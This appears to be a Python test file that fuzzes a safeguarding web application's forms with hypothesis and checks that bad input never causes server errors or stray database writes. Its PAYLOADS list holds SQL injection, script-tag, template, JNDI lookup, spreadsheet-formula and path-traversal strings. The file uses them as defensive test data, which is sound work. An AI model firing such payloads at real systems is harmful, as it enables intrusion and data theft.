"""Every kind of form, fuzzed (issue 24): hypothesis fills each field of a form page with what a
careless or hostile user might send (impossible and far-off dates, huge strings, odd Unicode,
NUL and other control characters, SQL, template and formula injection, numbers out of range,
the page's own choices) and posts it with the page's CSRF token, the way a browser would, so the
form's service function gets whatever the form lets through. Whatever is sent: never a 500, and
when the hub refuses (anything but the redirect that follows a save), nothing is stored (the
row count of every table but the audit log's and the sign-in bookkeeping is unchanged).

The API is fuzzed from its OpenAPI document in tests/api/test_openapi.py (schemathesis)."""

from __future__ import annotations

from datetime import date, timedelta
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from hub import db
from hub.db import Base
from hub.mace.operations import agenda, meetings, subjects
from hub.models.mace import MaceAgendaChild, SubjectKind
from tests.factories import csrf_token, sign_in

#: Rows written whatever the answer: the audit log (a refusal is audited) and signing in.
UNCOUNTED = ("audit_", "user_session", "sign_in_attempt")

PAYLOADS = [
    "'; DROP TABLE child; --", "\" OR 1=1 --", "<script>alert(1)</script>", "{{ 7*7 }}", "{% raw %}",
    "${jndi:ldap://example.test/a}", "=HYPERLINK(\"http://example.test\",\"x\")", "+cmd|' /C calc'!A0",
    "../../../etc/passwd", "%00", "\\x00", "null", "None", "-1", "0", "99999999999999999999", "1e309", "NaN",
]
ODD = [
    "\x00", "a\x00b", "\x1b[31m", "\x7f", "\u202eevil", "\u200b", "e\u0301", "\ufeff", "\U0001f600",
    "\U0001d54f" * 50, "ǅ", "\u2028", "Ω" * 3000, "x" * 100_000, " " * 5000, "\t\r\n",
]
#: The title of the request layer's refusal of control characters (hub.request_text).
REQUEST_REFUSED = "Your request could not be read"
DATE_PARTS = ["0", "-1", "31", "2", "29", "13", "1900", "9999", "10000", "2026", "1.5", "", "x"]


def _rows() -> dict[str, int]:
    return {name: db.session().scalar(select(func.count()).select_from(table))
            for name, table in Base.metadata.tables.items() if not name.startswith(UNCOUNTED)}


class _FormFields(HTMLParser):
    """The fields of a page's POST forms: name -> how many inputs carry it, and the offered values."""

    def __init__(self) -> None:
        super().__init__()
        self.fields: dict[str, int] = {}
        self.options: dict[str, list[str]] = {}
        self._select: str | None = None
        self._in_post_form = False

    def handle_starttag(self, tag: str, attrs) -> None:
        attr = dict(attrs)
        if tag == "form":
            self._in_post_form = (attr.get("method") or "").lower() == "post"
        if not self._in_post_form:
            return
        name = attr.get("name")
        if tag in ("input", "textarea", "select") and name and name != "csrf_token" and \
                attr.get("type") not in ("submit", "file"):
            is_choice = tag == "input" and attr.get("type") in ("radio", "checkbox")
            if not is_choice or name not in self.fields:
                self.fields[name] = self.fields.get(name, 0) + 1
            if is_choice and attr.get("value") is not None:
                self.options.setdefault(name, []).append(attr["value"])
        if tag == "select":
            self._select = name
        if tag == "option" and self._select and attr.get("value") is not None:
            self.options.setdefault(self._select, []).append(attr["value"])

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None
        if tag == "form":
            self._in_post_form = False


def _value(options: list[str]) -> st.SearchStrategy[str]:
    text = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
    nasty = st.one_of(st.sampled_from(PAYLOADS), st.sampled_from(ODD), text,
                      st.integers(-10**15, 10**15).map(str), st.sampled_from(DATE_PARTS))
    return st.one_of(st.sampled_from(options), nasty) if options else nasty


def _form(fields: _FormFields) -> st.SearchStrategy[dict[str, list[str]]]:
    return st.fixed_dictionaries({name: st.lists(_value(fields.options.get(name, [])), min_size=count,
                                                 max_size=count)
                                  for name, count in fields.fields.items()})


def _fuzz(client, page: str, post: str | None = None, examples: int = 20) -> int:
    """Fuzz the forms of `page` (posted to `post`, else to the page itself): the number of fields."""
    html = client.get(page)
    assert html.status_code == 200, page
    body = html.get_data(as_text=True)
    fields = _FormFields()
    fields.feed(body)
    assert fields.fields, f"no form fields on {page}"
    token = csrf_token(body)

    past_the_request_layer: list[int] = []

    # Derandomised, as the API's fuzz: CI sees the same cases every time.
    @settings(max_examples=examples, deadline=None, database=None, derandomize=True,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                     HealthCheck.data_too_large])
    @given(data=_form(fields))
    def send(data):
        before = _rows()
        response = client.post(post or page, data={"csrf_token": token, **data})
        if REQUEST_REFUSED not in response.get_data(as_text=True):
            past_the_request_layer.append(response.status_code)
        assert response.status_code < 500, (post or page, response.status_code)
        if response.status_code not in (302, 303):
            assert _rows() == before, (post or page, response.status_code)

    send()
    # Some cases got past the request layer's refusal of control characters to the form's checks
    # and its service (a page answered again with its errors, or the redirect after a save).
    assert past_the_request_layer, f"every case sent to {post or page} was refused before its form"
    return len(fields.fields)


@pytest.fixture
def chair(app, mace):
    client = app.test_client()
    sign_in(client, *mace.users["chair"])
    return client


@pytest.fixture
def member(app, mace):
    client = app.test_client()
    sign_in(client, *mace.users["police"])
    return client


def _held_child(mace):
    with db.unit_of_work() as s:
        s.add(MaceAgendaChild(group_id=mace.group.id, child_id=mace.children[0].id))
    return mace.children[0]


def test_the_consent_form(mace, chair):
    assert _fuzz(chair, f"/consent/new/{mace.children[0].id}") >= 8


def test_the_philomena_profile_form(mace, chair):
    assert _fuzz(chair, f"/missing/profile/{mace.children[0].id}") >= 5


@pytest.mark.parametrize("page", ["locations/new", "persons/new", "links/new", "meetings/new", "members/new"])
def test_the_mace_groups_forms(mace, chair, member, page):
    _held_child(mace)
    client = chair if page in ("meetings/new", "members/new") else member
    assert _fuzz(client, f"/mace/groups/{mace.group.id}/{page}") >= 1


def test_the_mace_meetings_forms(mace, chair):
    child = _held_child(mace)
    meeting = meetings.schedule(mace.users["chair"][0], mace.group.id, meetings.MeetingDetails(
        date.today() + timedelta(days=7), "09:30", "Town hall"))
    item = agenda.add_item(mace.users["chair"][0], meeting.id, agenda.ItemDraft(SubjectKind.child, child.id))
    for page in ("notes", "agenda/new", "actions/new"):
        assert _fuzz(chair, f"/mace/meetings/{meeting.id}/{page}", examples=12) >= 1
    for part in ("minutes", "risk", "updates"):
        assert _fuzz(chair, f"/mace/agenda-items/{item.id}", f"/mace/agenda-items/{item.id}/{part}",
                     examples=12) >= 1


def test_the_edit_forms_of_a_place_and_a_person(mace, member):
    place = subjects.add_location(mace.users["police"][0], mace.group.id, subjects.LocationDetails(
        name="Rec ground", kind="park", address="Behind the library"))
    assert _fuzz(member, f"/mace/locations/{place.id}/edit") >= 3
    person = subjects.add_person(mace.users["police"][0], mace.group.id, subjects.PersonDetails(
        kind="person", name="Tiny", legal_basis="10+S1P18", justification="Seen giving lifts",
        review_on=date.today() + timedelta(days=90)))
    assert _fuzz(member, f"/mace/persons/{person.id}", f"/mace/persons/{person.id}/rejustify") >= 1


def test_the_parser_reads_each_kind_of_field():
    fields = _FormFields()
    fields.feed('<form method="get"><input name="q"></form><form method="post">'
                '<input type="hidden" name="csrf_token" value="t"><input name="day"><input name="day">'
                '<input type="radio" name="kind" value="a"><input type="radio" name="kind" value="b">'
                '<select name="org"><option value="1">One</option></select><textarea name="notes"></textarea>'
                '<input type="submit" name="submit"></form>')
    assert fields.fields == {"day": 2, "kind": 1, "org": 1, "notes": 1}
    assert fields.options == {"kind": ["a", "b"], "org": ["1"]}
